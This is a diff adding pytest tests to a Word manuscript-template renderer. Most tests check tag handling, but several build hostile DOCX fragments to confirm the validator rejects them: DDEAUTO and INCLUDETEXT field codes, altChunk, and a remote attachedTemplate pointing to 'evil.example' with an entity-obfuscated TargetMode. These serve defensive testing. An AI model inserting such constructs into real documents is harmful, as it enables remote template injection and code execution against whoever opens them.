@@ -13,7 +13,9 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from word_files import docx, part, repacked, run, split, texts, with_part, xml
 
+from tamis.errors import Problems
 from tamis.manuscript.engine.checking import check
+from tamis.manuscript.engine.sandbox import TagError
 from tamis.manuscript.word import package
 from tamis.manuscript.word.document import Word
 from tamis.render import to_png
@@ -171,7 +173,7 @@ def test_tables_figures_and_references_stand_where_they_were_asked_for(figures):
     assert said[0] == "Before (Brook & Other, 2007)"
     assert said[1:3] == ["Table 1. Children’s", "Figure 1. Flow diagram"]
     assert said[3] == "Literature" and said[4].startswith("Akin, A.") and said[5].startswith("Brook, A.")
-    assert said[6:] == ["After Akin & Other (2017)"]
+    assert said[6:] == ["After Akin and Other (2017)"]
     document = Document(io.BytesIO(made))
     assert CLEAN in document.tables[0].cell(1, 1).text.replace("\ue000", "").replace("\ue001", "")
     assert len(document.inline_shapes) == 1
@@ -254,6 +256,167 @@ def test_an_if_that_ends_in_another_cell_is_an_error():
     assert any("another table cell" in text for text in wrong(docx(fill)))
 
 
+PAGE = '<w:r><w:br w:type="page"/></w:r>'
+BOOKMARK = '<w:bookmarkStart w:id="7" w:name="b"/><w:bookmarkEnd w:id="7"/>'
+NOTE = '<w:r><w:footnoteReference w:id="2"/></w:r>'
+MATH = "http://schemas.openxmlformats.org/officeDocument/2006/math"
+EQUATION = f'<m:oMath xmlns:m="{MATH}"><m:r><m:t>a+b</m:t></m:r></m:oMath>'
+
+
+@pytest.mark.parametrize("more", [PAGE, BOOKMARK, NOTE, EQUATION])
+@pytest.mark.parametrize(
+    "tag",
+    ["{{ item('16a') }}", "{{ table('characteristics') }}", "{% if flow.screened %}", "{% set a = 1 %}"],
+)
+def test_a_paragraph_of_tags_keeps_what_else_is_in_it(tag, more):
+    def fill(document):
+        xml(document, run(tag) + more)
+        split(document, "{% endif %}" if "if" in tag else "End")
+
+    made = part(render(fill), "word/document.xml")
+    assert re.search(r'w:type="page"|bookmarkStart|footnoteReference|a\+b', made)
+    assert "{% if" not in made and "{% set" not in made
+
+
+def test_a_statement_beside_a_page_break_hides_what_is_between_and_not_the_break():
+    def fill(document):
+        xml(document, run("{% if flow.excluded == 3 and 3 &gt; flow.screened %}") + PAGE)
+        split(document, "Hidden")
+        xml(document, run("{% endif %}") + PAGE)
+        split(document, "Shown")
+
+    made = render(fill)
+    assert part(made, "word/document.xml").count('w:type="page"') == 2
+    assert [text.strip() for text in texts(made)] == ["", "", "Shown"]
+
+
+def test_a_table_in_line_with_text_is_refused_however_it_is_written():
+    for tag in ("{{ (table('characteristics')) }}", "{{table ( 'characteristics' )}}"):
+        assert "paragraph of its own" in wrong(docx(lambda document: split(document, "Before ", tag)))[0]  # noqa: B023
+    looped = "{% for i in [1] %}a{{ table('characteristics') }}{% endfor %}"
+    assert "paragraph of its own" in wrong(docx(lambda document: split(document, looped)))[0]
+    twice = "{% for i in [1, 2] %}{{ table('characteristics') }}{% endfor %}"
+    assert len(Document(io.BytesIO(render(lambda document: split(document, twice)))).tables) == 2
+
+
+def test_what_a_loop_puts_beside_a_table_is_refused_when_it_is_rendered():
+    line = "{% for i in [1, 2] %}{% if i > 1 %}{{ table('characteristics') }}{% endif %}{% endfor %}"
+    data = docx(lambda document: split(document, line))
+    made = rendered(Word(data))
+    made.manuscript._template.docx.element.body.p_lst[0].add_r().text = "text"
+    with pytest.raises(TagError, match="paragraph of its own"):
+        made.word(Path)
+
+
+def boxed(choice, fallback):
+    mc = "http://schemas.openxmlformats.org/markup-compatibility/2006"
+    box = "<w:txbxContent><w:p>{}</w:p></w:txbxContent>"
+    return (
+        f'<w:r><mc:AlternateContent xmlns:mc="{mc}">'
+        f'<mc:Choice Requires="wps">{box.format(choice)}</mc:Choice>'
+        f"<mc:Fallback>{box.format(fallback)}</mc:Fallback></mc:AlternateContent></w:r>"
+    )
+
+
+def test_a_text_box_counts_once_and_says_the_same_to_old_programs():
+    def fill(document):
+        text = run("Box {{ flow.screened }} {{ cite('akin') }}")
+        xml(document, boxed(text, text))
+        split(document, "After {{ cite('brook') }}")
+        split(document, "{{ table('characteristics') }}")
+
+    of = rendered(Word(docx(fill)), style="institute-of-electrical-and-electronics-engineers")
+    assert [row.of for row in of.numbers()] == ["flow.screened"]
+    made = part(of.word(Path), "word/document.xml")
+    assert len(re.findall(r"Box 1,234† \[1\]", re.sub(r"<[^>]+>", "", made))) == 2
+    assert "After [2]" in re.sub(r"<[^>]+>", "", made) and "Table 1" in made
+
+
+def test_tags_where_none_is_read_are_told_of():
+    tag = "{{ flow.screened }}"
+    math = "<m:r><m:t>x={{ flow.</m:t></m:r><m:r><m:t>screened }}</m:t></m:r>"
+    math = f'<m:oMath xmlns:m="{MATH}">{math}</m:oMath>'
+
+    def fill(document):
+        xml(document, math + run("text"))
+        paragraph = split(document, "b")
+        document.add_comment(paragraph.runs, text=f"Is {tag} right?", author="A", initials="A")
+
+    said = wrong(with_part(docx(fill), "word/x.xml", b"<x/>"))
+    assert (
+        len(said) == 2 and "a tag in an equation is not read" in said[0] and "x={{ flow.screened" in said[0]
+    )
+    assert said[1].startswith("paper.docx: a comment")
+    sets = math.replace("flow.", "1}, {").replace("screened", "2")
+    assert wrong(docx(lambda document: xml(document, sets))) == []
+
+
+def test_what_stands_behind_a_citation_in_its_run_stays_behind_it():
+    def fill(document):
+        xml(document, '<w:r><w:t xml:space="preserve">A {{ cite("akin") }} b</w:t><w:tab/><w:t>c</w:t></w:r>')
+
+    assert texts(render(fill, style="nature"))[0] == "A 1 b\tc"
+
+
+def test_titles_are_rendered_in_the_properties_too():
+    def fill(document):
+        document.core_properties.title = "On {{ review.title }}"
+        document.core_properties.author = "A. Author"
+        split(document, "x")
+
+    made = Document(io.BytesIO(render(fill))).core_properties
+    assert (made.title, made.author) == ("On On {{ flow.screened }} and *stars*", "A. Author")
+
+    def unknown(document):
+        document.core_properties.title = "{{ flow.nix }}"
+
+    assert "the title in the document's properties" in wrong(docx(unknown))[0]
+
+
+def test_places_are_named_by_headings_as_they_are_printed_and_cells_by_table_and_row():
+    def fill(document):
+        document.add_heading("{{ item('16a') }}{{ studies.included | words | capitalize }} studies", 1)
+        table = document.add_table(2, 2)
+        for row in range(2):
+            for column in range(2):
+                table.cell(row, column).text = f"{row}{column} {{{{ flow.excluded }}}}"
+        split(document, "We. {{ item('16b') }}")
+
+    of = rendered(Word(docx(fill)))
+    assert of.items()["prisma2020", "16a"] == ["paper.docx: heading “Fifteen studies”"]
+    assert of.items()["prisma2020", "16b"] == ["paper.docx: Fifteen studies, paragraph 1"]
+    assert [row.place for row in of.numbers()][1:] == [
+        "paper.docx: Fifteen studies, table 1, row 1",
+        "paper.docx: Fifteen studies, table 1, row 1 (2)",
+        "paper.docx: Fifteen studies, table 1, row 2",
+        "paper.docx: Fifteen studies, table 1, row 2 (2)",
+    ]
+
+
+def test_mistakes_are_told_in_the_order_of_the_document():
+    problems = Problems()
+    for number in (10, 9, 1):
+        problems.add("paper.docx", f"paragraph {number}: x")
+    assert [problem.text for problem in problems] == [f"paragraph {number}: x" for number in (1, 9, 10)]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<w:fldSimple w:instr=" INCLUDETEXT &quot;c:/x.docx&quot; "/>',
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
+        '<w:r><w:instrText>AUTO c:/x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
+        '<w:altChunk w:val="x"/>',
+    ],
+)
+def test_what_fetches_as_it_is_opened_is_refused(text):
+    assert any("fetches" in said or "altChunk" in said for said in wrong(docx(lambda d: xml(d, text))))
+    cited = (
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> ADDIN "the DDE"</w:instrText></w:r>'
+    )
+    assert wrong(docx(lambda document: xml(document, cited))) == []
+
+
 def macro(data):
     return with_part(data, "word/vbaProject.bin", b"x")
 
@@ -287,6 +450,26 @@ def many(data):
     return out.getvalue()
 
 
+def prefixed(data):
+    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+    space = b'xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"'
+    relation = b'<r:Relationship Id="rId9" Type="' + kind + b'" Target="https://evil.example/t" '
+    rels = b"<r:Relationships " + space + b">" + relation + b'TargetMode="Exte&#114;nal"/></r:Relationships>'
+    return with_part(data, "word/_rels/settings.xml.rels", rels)
+
+
+def chunk(data):
+    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk"
+    new = b'<Relationship Id="rId99" Type="' + kind + b'" Target="x.html"/></Relationships>'
+
+    def change(name, content):
+        return (
+            content.replace(b"</Relationships>", new) if name == "word/_rels/document.xml.rels" else content
+        )
+
+    return repacked(data, change)
+
+
 def remote(data):
     kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
     new = (
@@ -317,6 +500,8 @@ def remote(data):
         (bomb, "declares a document type"),
         (blown, "times its size"),
         (many, "parts"),
+        (prefixed, "https://evil.example/t"),
+        (chunk, "another document that Word would take in"),
         (remote, "https://evil.example/t.dotm"),
     ],
 )
